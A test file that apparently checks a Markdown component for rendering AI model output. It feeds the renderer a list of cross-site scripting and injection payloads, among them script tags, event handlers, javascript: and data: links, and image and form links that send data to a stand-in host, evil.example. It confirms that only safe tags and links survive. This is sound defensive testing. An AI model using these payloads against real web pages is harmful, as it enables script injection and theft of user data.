import { render } from '@testing-library/svelte';
import { describe, expect, it } from 'vitest';
// What the page loads when it first needs it is there from the beginning: a slow machine would load it when the tests are over.
import './highlight';
import 'temml';
import Markdown from './Markdown.svelte';

const html = (text: string, growing = false): HTMLElement => render(Markdown, { text, growing }).container;

// What a model may be talked into writing.
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example><input name=a><button>OK</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](https://evil.example/?secret)',
  '![x](//evil.example/?secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](y)',
  '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
  '```js"><script>alert(1)</script>\nx\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '`</code><img src=x onerror=alert(1)>`',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\includegraphics{https://evil.example/x.png}$$',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '- [x](javascript:alert(1))\n- <script>alert(1)</script>',
];
// What a text of a model may become.
const allowed = new Set([
  'DIV', 'P', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'BR', 'HR', 'H3', 'H4', 'H5', 'H6', 'FIGURE', 'FIGCAPTION', 'SPAN', 'BUTTON',
  'BLOCKQUOTE', 'OL', 'UL', 'LI', 'INPUT', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'A', 'IMG', 'SVG', 'PATH', 'RECT', 'LINE',
  'CIRCLE',
]);

function check(container: HTMLElement): void {
  for (const element of container.querySelectorAll('*')) {
    expect(allowed, element.outerHTML).toContain(element.tagName.toUpperCase());
    for (const { name, value } of element.attributes) {
      expect(name, element.outerHTML).not.toMatch(/^on|^style$|^srcdoc$|^action$/);
      if (name === 'href') expect(value).toMatch(/^(https?|mailto):/);
      if (name === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
    }
  }
}

describe('Markdown', () => {
  it.each(attacks)('makes no more than text of %j', (attack) => {
    check(html(attack));
    check(html(`before\n\n${attack}\n\nafter`, true));
  });

  it('shows HTML as it was written', () => {
    expect(html('a <b>c</b>').textContent).toContain('a <b>c</b>');
    expect(html('one<br>two').querySelectorAll('br')).toHaveLength(1);
  });

  it('shows links, and says where pictures are without loading them', () => {
    const link = html('[page](https://example.org/)').querySelector('a')!;
    expect(link.rel).toBe('noopener noreferrer nofollow');
    const picture = html('![a cat](https://example.org/cat.png)');
    expect(picture.querySelector('img')).toBeNull();
    expect(picture.textContent).toContain('“a cat” at example.org');
    expect(html('![dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img')).not.toBeNull();
  });

  it('shows lists, tables, headings and code', () => {
    const page = html('# Title\n\n3. three\n4. four\n\n- [x] done\n\n| a |\n|--:|\n| 1 |\n\n```py\nx = 1\n```');
    expect(page.querySelector('h3')!.textContent).toBe('Title');
    expect(page.querySelector('ol')!.getAttribute('start')).toBe('3');
    expect(page.querySelector('input')!.disabled).toBe(true);
    expect(page.querySelector('td')!.textContent).toBe('1');
    expect(page.querySelector('pre')!.textContent).toBe('x = 1');
  });

  it('keeps what is done while more comes', async () => {
    const { container, rerender } = render(Markdown, { text: 'one\n\ntwo\n\nthree\n\nfour', growing: true });
    const first = container.querySelector('p')!;
    await rerender({ text: 'one\n\ntwo\n\nthree\n\nfour and five', growing: true });
    expect(container.querySelector('p')).toBe(first);
    expect([...container.querySelectorAll('p')].at(-1)!.textContent).toBe('four and five');
  });
});
